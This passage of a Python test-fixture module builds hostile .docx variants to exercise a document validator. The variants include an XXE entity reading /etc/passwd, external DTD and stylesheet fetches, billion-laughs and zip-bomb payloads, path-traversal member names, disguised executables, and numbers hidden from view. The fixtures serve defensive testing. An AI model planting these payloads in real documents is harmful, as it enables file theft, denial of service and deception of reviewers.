    chart = f'{HEAD}<c:chartSpace xmlns:c="{A.replace("/main", "/chart")}"/>'
    kind = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    add(members, "word/charts/chart1.xml", chart, kind)
    relate(members, "rId83", "chart", "charts/chart1.xml")


@hostile(f"word/webextensions/taskpanes.xml|{ROOT_RELS}", "webextension|taskpane|加载项")
def web_extension(members: Members) -> None:
    panes = f'{HEAD}<wetp:taskpanes xmlns:wetp="{MS}/webextensions/taskpanes/2010/11"/>'
    kind = "application/vnd.ms-office.webextensiontaskpanes+xml"
    add(members, "word/webextensions/taskpanes.xml", panes, kind)
    relate(
        members,
        "rId9",
        f"{MS}/2011/relationships/webextensiontaskpanes",
        "word/webextensions/taskpanes.xml",
        rels=ROOT_RELS,
    )


for _name, _kind in {"": "2006/relationships", "-14": "2007/relationships"}.items():

    def _ribbon(members: Members, kind: str = _kind) -> None:
        menu = f'{HEAD}<customUI xmlns="{MS}/2006/01/customui" onLoad="Run"/>'
        add(members, "customUI/customUI.xml", menu, "application/xml")
        relate(
            members,
            "rId9",
            f"{MS}/{kind}/ui/extensibility",
            "customUI/customUI.xml",
            rels=ROOT_RELS,
        )

    _case(
        f"custom-ui{_name}",
        _ribbon,
        f"customUI/customUI.xml|{ROOT_RELS}",
        "customUI|extensibility|界面",
    )


@hostile("CustomUI/CUSTOMUI14.XML", "customUI")
def custom_ui_that_nothing_mentions(members: Members) -> None:
    members["CustomUI/CUSTOMUI14.XML"] = f'{HEAD}<customUI xmlns="{MS}"/>'.encode()


for _name, _folder in {"": "activeX", "-in-another-case": "ACTIVEX"}.items():

    def _control(members: Members, folder: str = _folder) -> None:
        control = (
            f'{HEAD}<ax:ocx xmlns:ax="{MS}/2006/activeX" xmlns:r="{R}" '
            'ax:classid="{8BD21D50-EC42-11CE-9E0D-00AA006002F3}" '
            'ax:persistence="persistStreamInit" r:id="rId1"/>'
        )
        file = f"word/{folder}/{folder}1.xml"
        add(members, file, control, "application/vnd.ms-office.activeX+xml")
        add(members, f"word/{folder}/{folder}1.bin", _OLE, "application/vnd.ms-office.activeX")
        relate(members, "rId84", "control", f"{folder}/{folder}1.xml")
        at_end(
            members,
            paragraph(
                runs='<w:r><w:object><w:control r:id="rId84" w:name="b" w:shapeid="s"/>'
                "</w:object></w:r>"
            ),
        )

    _case(
        f"active-x{_name}",
        _control,
        f"word/{_folder}/{_folder}1.xml|word/{_folder}/{_folder}1.bin|{_EITHER_RELS}",
        "activeX|control|控件",
    )


@hostile("word/activex1.bin", "activex1.bin")
def active_x_that_nothing_mentions(members: Members) -> None:
    members["word/activex1.bin"] = _OLE
    extension(members, "bin", "application/vnd.ms-office.activeX")


for _ending in ("vbs", "hta", "lnk", "scr", "bat", "ps1", "dll", "swf", "js", "exe", "html", "url"):

    def _member(members: Members, ending: str = _ending) -> None:
        members[f"word/evil.{ending}"] = b"x"

    _case(
        f"member-{_ending}",
        _member,
        f"word/evil.{_ending}",
        _ending,
    )


@hostile("word/media/evil.scr", "evil.scr")
def member_of_an_honest_content_type(members: Members) -> None:
    add(members, "word/media/evil.scr", b"MZ", "image/png")


@hostile("word/EVIL.VBS", "EVIL.VBS")
def member_in_capitals(members: Members) -> None:
    members["word/EVIL.VBS"] = b"x"


@hostile("word/evil.exe.xml", code="L109|L101")
def member_that_ends_in_xml_and_is_none(members: Members) -> None:
    members["word/evil.exe.xml"] = b"MZ\x90\0"


@hostile("word/extra.xml")
def part_that_nothing_mentions(members: Members) -> None:
    members["word/extra.xml"] = f'{HEAD}<html xmlns="http://www.w3.org/1999/xhtml"/>'.encode()


_NAMES = {
    "climbs": "../../evil.txt",
    "climbs-within": "word/../../evil.xml",
    "climbs-backwards": r"word\..\..\evil.xml",
    "absolute": "/etc/evil",
    "of-a-drive": r"C:\evil",
    "of-a-share": r"\\198.51.100.7\evil",
    "of-a-device": "con.xml",
    "of-a-device-in-a-folder": "word/AUX.xml",
    "with-a-dot": "word/./evil.xml",
    "with-two-slashes": "word//evil.xml",
    "ends-in-a-dot": "word/evil.xml.",
    "with-a-colon": "word/styles.xml:evil",
    "escaped": "word/%2e%2e/evil.xml",
    "with-a-control-character": "word/evil\x1b[31m.xml",
    "turned-around": "word/evil\u202elmx.exe",
    "very-long": "word/evil" + "a" * 5000 + ".xml",
}
for _name, _file in _NAMES.items():

    def _named(members: Members, file: str = _file) -> bytes:
        every = rawzip.entries(members)
        return rawzip.written([*every, rawzip.deflated(file, b"evil")])

    _case(
        f"member-name-{_name}",
        _named,
        "AUX.xml|con.xml" if "device" in _name else "evil",
        code="L109|L101",
    )


@hostile("word/DOCUMENT.XML|word/document.xml", code="L101|L109")
def second_document_in_capitals(members: Members) -> None:
    members["word/DOCUMENT.XML"] = members[DOCUMENT].replace(b"{{c24a}}", b"999")


@hostile("WORD/Styles.xml|word/styles.xml", code="L101|L109")
def second_styles_in_another_case(members: Members) -> None:
    members["WORD/Styles.xml"] = members[STYLES]


@hostile("[content_types].xml|[Content_Types].xml", code="L101|L109")
def second_content_types_in_another_case(members: Members) -> None:
    members["[content_types].xml"] = members[TYPES]


@hostile("_xmlsignatures|origin.sigs", code="L109")
def digital_signature(members: Members) -> None:
    kind = "application/vnd.openxmlformats-package.digital-signature-origin"
    add(members, "_xmlsignatures/origin.sigs", b"", kind)
    sigs = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"
    relate(members, "rId9", sigs, "_xmlsignatures/origin.sigs", rels=ROOT_RELS)


@hostile(f"word/glossary/document.xml|{_EITHER_RELS}", "glossary", code="L109|L106")
def glossary_with_another_document(members: Members) -> None:
    add(members, "word/glossary/document.xml", members[DOCUMENT], f"{WML}.document.glossary+xml")
    relate(members, "rId85", "glossaryDocument", "glossary/document.xml")


# --- XML that is more than text -----------------------------------------------------------------

_DTD = "?>\n<!DOCTYPE x [<!ENTITY a 'b'>]>"


@hostile("word/fontTable.fnt", code="L101|L109")
def dtd_in_a_part_that_does_not_end_in_xml(members: Members) -> None:
    members["word/fontTable.fnt"] = members.pop(FONTS).replace(b"?>", _DTD.encode(), 1)
    swap(members, RELS, "fontTable.xml", "fontTable.fnt")
    swap(members, TYPES, "fontTable.xml", "fontTable.fnt")


@hostile(RELS, code="L101|L109")
def dtd_in_relationships(members: Members) -> None:
    swap(members, RELS, "?>", _DTD)


@hostile(STYLES, code="L101|L109")
def dtd_in_utf_16(members: Members) -> None:
    styles = members[STYLES].decode().replace("UTF-8", "UTF-16", 1).replace("?>", _DTD, 1)
    members[STYLES] = styles.encode("utf-16")


@hostile(DOCUMENT, code="L101|L109")
def dtd_that_reads_a_file(members: Members) -> None:
    swap(members, DOCUMENT, "?>", "?>\n<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>")
    swap(members, DOCUMENT, "信息内容", "信息内容&a;")


@hostile(DOCUMENT, code="L101|L109")
def dtd_from_the_net_without_entities(members: Members) -> None:
    swap(members, DOCUMENT, "?>", f"?>\n<!DOCTYPE x SYSTEM '{_NET}.dtd'>")


@hostile(CORE, code="L101|L109")
def a_billion_laughs(members: Members) -> None:
    entities = "<!ENTITY l0 'ha'>" + "".join(
        f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)
    )
    swap(members, CORE, "?>", f"?>\n<!DOCTYPE x [{entities}]>")
    swap(members, CORE, "</dc:title>", "&l9;</dc:title>")


@hostile(DOCUMENT, "xml-stylesheet|指令|stylesheet", code="L109|L101")
def stylesheet_instruction(members: Members) -> None:
    swap(members, DOCUMENT, "?>", f'?>\n<?xml-stylesheet type="text/xsl" href="{_NET}.xsl"?>')


@hostile(STYLES, code="L101|L109")
def part_that_is_cut_short(members: Members) -> None:
    members[STYLES] = members[STYLES][:-300]


@hostile(FONTS, code="L101|L109")
def part_with_bytes_that_are_no_text(members: Members) -> None:
    members[FONTS] = members[FONTS].replace("仿宋".encode(), b"\xff\xfe\x80", 1)


@hostile(DOCUMENT, code="L101|L109")
def a_hundred_thousand_elements_deep(members: Members) -> None:
    deep = 100_000
    at_end(members, "<w:sdt><w:sdtContent>" * deep + "</w:sdtContent></w:sdt>" * deep)


@hostile(DOCUMENT, code="L101|L109")
def three_hundred_tables_in_one_another(members: Members) -> None:
    before, behind = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    at_end(members, before * 300 + "<w:p/>" + behind * 300)


@hostile(DOCUMENT, code="L101|L109")
def fifty_six_megabytes_of_empty_elements(members: Members) -> bytes:
    """Eight million of them, in half a kilobyte of zip a megabyte."""
    document = members.pop(DOCUMENT)
    at = document.rindex(b"<w:sectPr")
    squeeze = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = squeeze.compress(document[:at]) + squeeze.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(6, zlib.DEFLATED, -15)
    some = b"<w:p/>\n" * 80_000
    block = again.compress(some) + again.flush(zlib.Z_FULL_FLUSH)
    squeeze = zlib.compressobj(6, zlib.DEFLATED, -15)
    last = squeeze.compress(document[at:]) + squeeze.flush()
    crc = zlib.crc32(document[:at])
    for _ in range(100):
        crc = zlib.crc32(some, crc)
    crc = zlib.crc32(document[at:], crc)
    size = len(document) + 100 * len(some)
    entry = rawzip.Entry(DOCUMENT.encode(), packed + block * 100 + last, rawzip.DEFLATED, size, crc)
    return rawzip.written([*rawzip.entries(members), entry])


@hostile(STYLES, code="L101|L109")
def an_attribute_of_ten_megabytes(members: Members) -> None:
    swap(members, STYLES, 'w:val="Normal"', f'w:val="{"a" * 10_000_000}"')


@hostile(DOCUMENT, code="L101|L109")
def an_element_of_fifty_thousand_attributes(members: Members) -> None:
    attributes = " ".join(f'w:a{n}="1"' for n in range(50_000))
    at_end(members, f"<w:p {attributes}/>")


@hostile(DOCUMENT, "marquee|evil")
def an_element_of_another_language(members: Members) -> None:
    at_end(members, paragraph(runs='<marquee xmlns="urn:evil">甲</marquee>'))


@hostile(DOCUMENT, "surprise", placed=True)
def an_element_that_word_does_not_know(members: Members) -> None:
    at_end(members, paragraph(runs="<w:surprise/>"))


@hostile(DOCUMENT, "contentPart", placed=True)
def ink(members: Members) -> None:
    at_end(members, paragraph(runs='<w:r><w:contentPart r:id="rId1"/></w:r>'))


@hostile(f"{DOCUMENT}|{RELS}", code="L109|L101")
def strict_namespace_in_one_element(members: Members) -> None:
    at_end(
        members,
        '<s:altChunk xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" r:id="rId1"/>',
    )


@hostile(STYLES, code="L101|L109")
def part_in_gb18030(members: Members) -> None:
    styles = members[STYLES].decode().replace("UTF-8", "GB18030", 1)
    members[STYLES] = styles.encode("gb18030")


@hostile(STYLES, code="L101|L109")
def part_in_an_unknown_encoding(members: Members) -> None:
    swap(members, STYLES, "UTF-8", "x-evil")


@hostile(STYLES, code="L101|L109")
def part_in_utf_7(members: Members) -> None:
    swap(members, STYLES, "UTF-8", "UTF-7")


# --- which part is read: two readers, two reports ----------------------------------------------


@hostile("word/real.xml|word/document.xml", code="L101|L102|L103|L104|L105|L106|L107|L108|L109")
def main_part_elsewhere_shows_other_numbers(members: Members) -> None:
    """Word shows word/real.xml, where every number is 999; who looks only at its usual place
    reads the honest one."""
    other = members[DOCUMENT].decode()
    for number in ("{{c24a}}", "{{c24g}}", "{{b3a}}"):
        assert number in other
        other = other.replace(number, "999")
    add(members, "word/real.xml", other, f"{WML}.document.main+xml")
    members["word/_rels/real.xml.rels"] = members[RELS]
    swap(members, ROOT_RELS, "word/document.xml", "word/real.xml")


@hostile(f"{ROOT_RELS}|word/real.xml", code="L101|L106|L109")
def two_main_parts(members: Members) -> None:
    add(members, "word/real.xml", members[DOCUMENT], f"{WML}.document.main+xml")
    members["word/_rels/real.xml.rels"] = members[RELS]
    relate(members, "rId9", "officeDocument", "word/real.xml", rels=ROOT_RELS)


@hostile(ROOT_RELS, code="L101|L109")
def no_main_part(members: Members) -> None:
    swap(members, ROOT_RELS, '/officeDocument"', '/image"')


@hostile(ROOT_RELS, code="L101|L109")
def main_part_from_the_net(members: Members) -> None:
    swap(
        members,
        ROOT_RELS,
        'Target="word/document.xml"',
        f'Target="{_NET}.xml" TargetMode="External"',
    )


@hostile(f"{ROOT_RELS}|word/nothing.xml", code="L101|L109")
def main_part_that_is_not_there(members: Members) -> None:
    swap(members, ROOT_RELS, "word/document.xml", "word/nothing.xml")


@hostile(f"{TYPES}|{DOCUMENT}", code="L101|L109")
def two_content_types_for_one_part(members: Members) -> None:
    add(members, "word/DOCUMENT.xml", b"", "application/octet-stream")
    del members["word/DOCUMENT.xml"]


@hostile(f"{TYPES}|word/styles.xml", code="L101|L109")
def styles_of_another_content_type(members: Members) -> None:
    swap(members, TYPES, f"{WML}.styles+xml", "text/html")


@hostile(f"{TYPES}|evil", "evil|html", code="L109|L101")
def content_type_of_an_unknown_ending(members: Members) -> None:
    extension(members, "evil", "text/html")
    members["word/x.evil"] = b"<script/>"


# --- what is seen is not what is checked -----------------------------------------------------------


@hostile(DOCUMENT, "dataBinding|绑定", placed=True)
def number_bound_to_custom_xml(members: Members) -> None:
    _custom_xml(members)
    around(
        members,
        "{{c24a}}",
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/n" w:storeItemID="{11111111-1111-1111-1111-'
        '111111111111}"/><w:text/></w:sdtPr><w:sdtContent>',
        "</w:sdtContent></w:sdt>",
    )


@hostile(DOCUMENT, "dataBinding|绑定", placed=True)
def number_bound_to_custom_xml_by_word_2013(members: Members) -> None:
    _custom_xml(members)
    around(
        members,
        "{{c24a}}",
        f'<w:sdt><w:sdtPr><w15:dataBinding xmlns:w15="{W15}" w:xpath="/n" '
        'w:storeItemID="{11111111-1111-1111-1111-111111111111}"/></w:sdtPr><w:sdtContent>',
        "</w:sdtContent></w:sdt>",
    )


@hostile(DOCUMENT, "dataBinding|绑定", placed=True)
def title_bound_to_the_properties(members: Members) -> None:
    around(
        members,
        "{{标题}}",
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/ns1:coreProperties/ns0:title" '
        'w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/></w:sdtPr><w:sdtContent>',
        "</w:sdtContent></w:sdt>",
    )


def _custom_xml(members: Members) -> None:
    add(members, "customXml/item1.xml", f"{HEAD}<n>999</n>")
    props = (
        f'{HEAD}<ds:datastoreItem ds:itemID="{{11111111-1111-1111-1111-111111111111}}" '
        'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>'
    )
    kind = "application/vnd.openxmlformats-officedocument.customXmlProperties+xml"
    add(members, "customXml/itemProps1.xml", props, kind)
    relate(members, "rId90", "customXml", "../customXml/item1.xml")
    relate(
        members,
        "rId1",
        "customXmlProps",
        "itemProps1.xml",
        rels="customXml/_rels/item1.xml.rels",
    )


@hostile(DOCUMENT, "域|DATE|c24a", code="L109|L106|L107", placed=True)
def number_as_the_result_of_a_field(members: Members) -> None:
    run = run_of(members, "{{c24a}}")
    swap(members, DOCUMENT, run, field(" DATE ", result=run))


@hostile(DOCUMENT, "域|PAGE|c24a", code="L109|L106|L107", placed=True)
def number_as_the_result_of_a_simple_field(members: Members) -> None:
    around(members, "{{c24a}}", '<w:fldSimple w:instr=" PAGE ">', "</w:fldSimple>")


@hostile("", "域|c24a|PAGE", code="L109|L106|L107")
def number_within_the_code_of_a_field(members: Members) -> None:
    run = run_of(members, "{{c24a}}")
    code = run.replace("<w:t ", "<w:instrText ").replace("</w:t>", "</w:instrText>")
    swap(
        members,
        DOCUMENT,
        run,
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        f'{code}{run}<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )


@hostile(DOCUMENT, "域|标题|REF", code="L109|L106|L107", placed=True)
def title_as_the_result_of_a_field(members: Members) -> None:
    run = run_of(members, "{{标题}}")
    swap(members, DOCUMENT, run, field(" REF _x ", result=run))


_HIDDEN = {
    "vanish": "<w:vanish/>",
    "vanish-true": '<w:vanish w:val="true"/>',
}
for _name, _properties in _HIDDEN.items():

    def _hide(members: Members, properties: str = _properties) -> None:
        formatted(members, "{{c24a}}", properties)

    _case(
        f"number-hidden-by-{_name}",
        _hide,
        DOCUMENT,
        "vanish|隐藏",
        placed=True,
    )


_FAINT = {
    "white": '<w:color w:val="FFFFFF"/>',
    "nearly-white": '<w:color w:val="fdfdfd"/>',
    "the-colour-of-paper": '<w:color w:val="auto" w:themeColor="background1"/>',
    "half-a-point": '<w:sz w:val="1"/>',
    "a-hundredth-of-its-width": '<w:w w:val="1"/>',
}
for _name, _properties in _FAINT.items():

    def _fade(members: Members, properties: str = _properties) -> None:
        formatted(members, "{{c24a}}", properties)

    _case(f"number-in-{_name}", _fade, DOCUMENT, "看不见", placed=True)


@hostile(DOCUMENT, "看不见", placed=True)
def numbers_in_white_by_the_style_they_have(members: Members) -> None:
    styles = members[STYLES].decode()
    at = styles.index("</w:rPr>", styles.index('w:styleId="TableNumber"'))
    members[STYLES] = f'{styles[:at]}<w:color w:val="FFFFFF"/>{styles[at:]}'.encode()


@hostile(DOCUMENT, "看不见", placed=True)
def row_of_one_twentieth_of_a_point(members: Members) -> None:
    document = members[DOCUMENT].decode()
    row = document.rindex("<w:trPr>", 0, document.index("{{c24a}}"))
    height = '<w:trHeight w:val="1" w:hRule="exact"/>'
    members[DOCUMENT] = f"{document[:row]}<w:trPr>{height}{document[row + 8 :]}".encode()


@hostile(f"{STYLES}|{DOCUMENT}", "vanish|隐藏")
def number_hidden_by_its_style(members: Members) -> None:
    style = (
        '<w:style w:type="character" w:customStyle="1" w:styleId="Off"><w:name w:val="off"/>'
        "<w:rPr><w:vanish/></w:rPr></w:style>"
    )
    swap(members, STYLES, "</w:styles>", style + "</w:styles>")
    run = run_of(members, "{{c24a}}")
    swap(members, DOCUMENT, run, run.replace("<w:rPr>", '<w:rPr><w:rStyle w:val="Off"/>', 1))


@hostile(f"{STYLES}|{DOCUMENT}", "vanish|隐藏")
def everything_hidden_by_the_defaults(members: Members) -> None:
    swap(members, STYLES, "<w:rPrDefault><w:rPr>", "<w:rPrDefault><w:rPr><w:vanish/>")


@hostile(f"{STYLES}|{DOCUMENT}", "vanish|隐藏")
def numbers_hidden_by_a_style_they_have(members: Members) -> None:
    styles = members[STYLES].decode()
    at = styles.index("</w:rPr>", styles.index('w:styleId="TableNumber"'))
    members[STYLES] = f"{styles[:at]}<w:vanish/>{styles[at:]}".encode()


@hostile(DOCUMENT, "hidden|隐藏", placed=True)
def row_that_is_hidden(members: Members) -> None:
    document = members[DOCUMENT].decode()
    row = document.rindex("<w:trPr>", 0, document.index("{{c24a}}"))
    members[DOCUMENT] = f"{document[:row]}<w:trPr><w:hidden/>{document[row + 8 :]}".encode()


@hostile(DOCUMENT, "del|修订", placed=True)
def number_as_deleted_text(members: Members) -> None:
    run = run_of(members, "{{c24a}}")
    gone = run.replace("<w:t ", "<w:delText ").replace("</w:t>", "</w:delText>")
    swap(members, DOCUMENT, run, f'<w:del w:id="3" w:author="甲">{gone}</w:del>' + text("999"))


@hostile(DOCUMENT, "bdo", placed=True)
def number_turned_around(members: Members) -> None:
    around(members, "{{c24a}}", '<w:bdo w:val="rtl">', "</w:bdo>")


@hostile(DOCUMENT, "编号|numPr", code="L109|L106|L107", placed=True)
def number_with_an_automatic_number_in_front(members: Members) -> None:
    numbering = (
        f'{HEAD}<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0">'
        '<w:start w:val="9"/><w:numFmt w:val="decimal"/><w:suff w:val="nothing"/>'
        '<w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1">'
        '<w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    add(members, "word/numbering.xml", numbering, f"{WML}.numbering+xml")
    relate(members, "rId91", "numbering", "numbering.xml")
    cell = paragraph_of(members, "{{c24a}}")
    numbered = cell.replace(
        "<w:keepNext/>",
        '<w:keepNext/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>',
        1,
    )
    swap(members, DOCUMENT, cell, numbered)


@hostile(DOCUMENT, "sym", code="L109|L107", placed=True)
def number_with_a_digit_from_a_symbol_font(members: Members) -> None:
    run = run_of(members, "{{c24a}}")
    digit = '<w:r><w:sym w:font="Times New Roman" w:char="F039"/></w:r>'
    swap(members, DOCUMENT, run, digit + run)


@hostile(DOCUMENT, code="L109|L104|L106|L107", placed=True)
def numbers_that_depend_on_the_reader(members: Members) -> None:
    run = run_of(members, "{{c24a}}")
    swap(
        members,
        DOCUMENT,
        run,
        f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="w14" xmlns:w14="{W14}">'
        f"{text('999')}</mc:Choice><mc:Fallback>{run}</mc:Fallback></mc:AlternateContent>",
    )


_LOOP_WORDS = "L103|L104|L105|L106|L107|L108"


def _tag(said: str) -> str:
    return paragraph(said)


@hostile("", "标题", code=_LOOP_WORDS)
def title_in_a_loop_that_may_be_empty(members: Members) -> None:
    title = paragraph_of(members, "{{标题}}")
    swap(
        members,
        DOCUMENT,
        title,
        _tag("{%p for 甲 in 主动公开.注 %}") + title + _tag("{%p endfor %}"),
    )


@hostile("", "标题", code=_LOOP_WORDS)
def title_in_the_loop_of_the_portal_line(members: Members) -> None:
    title = paragraph_of(members, "{{标题}}")
    swap(members, DOCUMENT, title, "")
    line = paragraph_of(members, "{%p for 行 in 发布行 %}")
    swap(members, DOCUMENT, line, line + title)


@hostile("", "总体情况", code=_LOOP_WORDS)
def heading_in_a_loop_that_may_be_empty(members: Members) -> None:
    heading = paragraph_of(members, "一、总体情况")
    swap(members, DOCUMENT, heading, "")
    line = paragraph_of(members, "{%p for 行 in 发布行 %}")
    swap(members, DOCUMENT, line, line + heading)


@hostile("", code=_LOOP_WORDS)
def table_in_a_loop_that_may_be_empty(members: Members) -> None:
    document = members[DOCUMENT].decode()
    start = document.index("<w:tbl>")
    end = document.index("</w:tbl>") + len("</w:tbl>")
    document = (
        document[:start]
        + _tag("{%p for 甲 in 其他事项 %}")
        + document[start:end]
        + _tag("{%p endfor %}")
        + document[end:]
    )
    members[DOCUMENT] = document.encode()


# --- people ----------------------------------------------------------------------------------------

_PERSON = "张三丰"


@hostile(f"word/comments.xml|{_EITHER_RELS}", "comment|批注")
def comments(members: Members) -> None:
    said = paragraph("这里要改")
    content = (
        f'{HEAD}<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{_PERSON}" '
        f'w:initials="张">{said}</w:comment></w:comments>'
    )
    add(members, "word/comments.xml", content, f"{WML}.comments+xml")
    relate(members, "rId95", "comments", "comments.xml")
    around(
        members,
        "{{标题}}",
        '<w:commentRangeStart w:id="0"/>',
        '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>',
    )


@hostile("word/commentsExtended.xml|word/_rels/document.xml.rels", "comment|批注")
def comments_of_word_2013_that_nothing_shows(members: Members) -> None:
    content = f'{HEAD}<w15:commentsEx xmlns:w15="{W15}"/>'
    add(members, "word/commentsExtended.xml", content, f"{WML}.commentsExtended+xml")
    kind = f"{MS}/2011/relationships/commentsExtended"
    relate(members, "rId95", kind, "commentsExtended.xml")


@hostile(f"word/people.xml|{_EITHER_RELS}", "people|人")
def people(members: Members) -> None:
    content = (
        f'{HEAD}<w15:people xmlns:w15="{W15}"><w15:person w15:author="{_PERSON}">'
        f'<w15:presenceInfo w15:providerId="AD" w15:userId="S::zhang@example.org"/></w15:person>'
        "</w15:people>"
    )
    add(members, "word/people.xml", content, f"{WML}.people+xml")
    relate(members, "rId96", f"{MS}/2011/relationships/people", "people.xml")


_AUTHOR = f'w:id="5" w:author="{_PERSON}" w:date="2025-01-02T03:04:05Z"'
_CHANGES = {
    "ins": f"<w:p><w:ins {_AUTHOR}>{text('甲')}</w:ins></w:p>",
    "del": f"<w:p><w:del {_AUTHOR}><w:r><w:delText>甲</w:delText></w:r></w:del></w:p>",
    "move-from": f"<w:p><w:moveFrom {_AUTHOR}>{text('甲')}</w:moveFrom></w:p>",
    "move-to": f"<w:p><w:moveTo {_AUTHOR}>{text('甲')}</w:moveTo></w:p>",
    "paragraph-mark": f"<w:p><w:pPr><w:rPr><w:ins {_AUTHOR}/></w:rPr></w:pPr>{text('甲')}</w:p>",
    "rPrChange": f"<w:p><w:r><w:rPr><w:b/><w:rPrChange {_AUTHOR}><w:rPr/></w:rPrChange></w:rPr>"
    "<w:t>甲</w:t></w:r></w:p>",
    "pPrChange": f"<w:p><w:pPr><w:keepNext/><w:pPrChange {_AUTHOR}><w:pPr/></w:pPrChange></w:pPr>"
    f"{text('甲')}</w:p>",
    "numberingChange": f"<w:p><w:pPr><w:numPr><w:numberingChange {_AUTHOR}/></w:numPr></w:pPr>"
    f"{text('甲')}</w:p>",
}
for _name, _xml in _CHANGES.items():

    def _change(members: Members, xml: str = _xml) -> None:
        at_end(members, xml)

    _case(
        f"change-{_name}",
        _change,
        DOCUMENT,
        "修订|" + _name,
        placed=True,
    )


@hostile(DOCUMENT, "修订|sectPrChange")
def change_of_a_section(members: Members) -> None:
    swap(
        members,
        DOCUMENT,
        "</w:sectPr>",
        f"<w:sectPrChange {_AUTHOR}><w:sectPr/></w:sectPrChange></w:sectPr>",
    )


@hostile(DOCUMENT, "修订|trPrChange|ins")
def change_of_a_row(members: Members) -> None:
    swap(members, DOCUMENT, "<w:trPr>", f"<w:trPr><w:ins {_AUTHOR}/>")


@hostile(DOCUMENT, "修订|tblPrChange")
def change_of_a_table(members: Members) -> None:
    swap(
        members,
        DOCUMENT,
        "</w:tblPr>",
        f"<w:tblPrChange {_AUTHOR}><w:tblPr/></w:tblPrChange></w:tblPr>",
    )


@hostile(FOOTER, "修订|ins")
def change_in_a_footer(members: Members) -> None:
    in_footer(members, f"<w:ins {_AUTHOR}>{text('甲')}</w:ins>")


@hostile(STYLES, "修订|rPrChange")
def change_in_a_style(members: Members) -> None:
    swap(
        members,
        STYLES,
        "</w:rPr></w:style>",
        f"<w:rPrChange {_AUTHOR}><w:rPr/></w:rPrChange></w:rPr></w:style>",
    )


@hostile(SETTINGS, "docVar|变量")
def document_variables(members: Members) -> None:
    setting(
        members,
        f'<w:docVars><w:docVar w:name="经办人" w:val="{_PERSON} 13900000000"/></w:docVars>',
    )


@hostile(f"docMetadata/LabelInfo.xml|{ROOT_RELS}", "label|标签")
def sensitivity_label(members: Members) -> None:
    label = f'{HEAD}<clbl:labelList xmlns:clbl="{MS}/2020/mipLabelMetadata"/>'
    kind = "application/vnd.ms-office.classificationlabels+xml"
    add(members, "docMetadata/LabelInfo.xml", label, kind)
    kind = f"{MS}/2020/02/relationships/classificationlabels"
    relate(members, "rId9", kind, "docMetadata/LabelInfo.xml", rels=ROOT_RELS)


@hostile("docProps/custom.xml", "MSIP|custom|属性|label|标签")
def label_among_the_custom_properties(members: Members) -> None:
    _custom_properties(members, "MSIP_Label_1_Owner", "zhang@example.org")


@hostile("docProps/custom.xml", "custom|属性|经办人")
def person_among_the_custom_properties(members: Members) -> None:
    _custom_properties(members, "经办人", _PERSON)


def _custom_properties(members: Members, name: str, value: str) -> None:
    vt = "http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"
    custom = "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
    content = (
        f'{HEAD}<Properties xmlns="{custom}" xmlns:vt="{vt}"><property '
        'fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
        f'name="{name}"><vt:lpwstr>{value}</vt:lpwstr></property></Properties>'
    )
    kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    add(members, "docProps/custom.xml", content, kind)
    relate(members, "rId9", "custom-properties", "docProps/custom.xml", rels=ROOT_RELS)


@hostile(DOCUMENT, "perm", placed=True)
def permission_for_a_person(members: Members) -> None:
    at_end(
        members,
        paragraph(
            runs='<w:permStart w:id="1" w:ed="zhang@example.org"/>'
            + text("甲")
            + '<w:permEnd w:id="1"/>'
        ),
    )


@hostile("customXml/item1.xml|customXml")
def person_in_custom_xml(members: Members) -> None:
    _custom_xml(members)
    members["customXml/item1.xml"] = f"{HEAD}<owner>{_PERSON}</owner>".encode()


# --- placeholders ------------------------------------------------------------------------------------

_BRACES = {
    "full-width-title": ("{{标题}}", "｛｛标题｝｝", "｛｛标题"),
    "full-width-number": ("{{c24a}}", "｛｛c24a｝｝", "｛｛c24a"),
    "mixed-braces": ("{{c24a}}", "{{c24a｝｝", "c24a"),
    "full-width-loop": ("{%p for 行 in 发布行 %}", "｛%p for 行 in 发布行 %｝", "发布行"),
    "unclosed-number": ("{{c24a}}", "{{c24a", "c24a"),
    "one-brace": ("{{c24a}}", "{c24a}", "c24a"),
}
for _name, (_old, _new, _word) in _BRACES.items():

    def _brace(members: Members, old: str = _old, new: str = _new) -> None:
        swap(members, DOCUMENT, old, new)

    _case(
        f"placeholder-{_name}",
        _brace,
        "",
        _word,
        code="L107|L106|L103",
        placed=_name.startswith("full"),
    )

_case(
    "placeholder-full-width-beside-the-honest-one",
    _block(text("｛｛标题｝｝")),
    "",
    "｛｛标题",
    code="L107|L106",
    placed=True,
)
_case(
    "placeholder-full-width-in-a-footer",
    lambda members: in_footer(members, text("｛｛标题｝｝")),
    "页脚|footer",
    "｛｛|占位符",
    code="L106|L107",
)
_case(
    "number-in-a-footer",
    lambda members: in_footer(members, text("{{c12a}}")),
    "页脚|footer",
    "c12a",
    code="L102",
)
_case(
    "placeholder-in-a-footnote",
    lambda members: _footnote_with(members, "{{单位}}"),
    "注|footnotes",
    "占位符|单位",
    code="L106",
)
_case(
    "placeholder-in-the-title-of-a-picture",
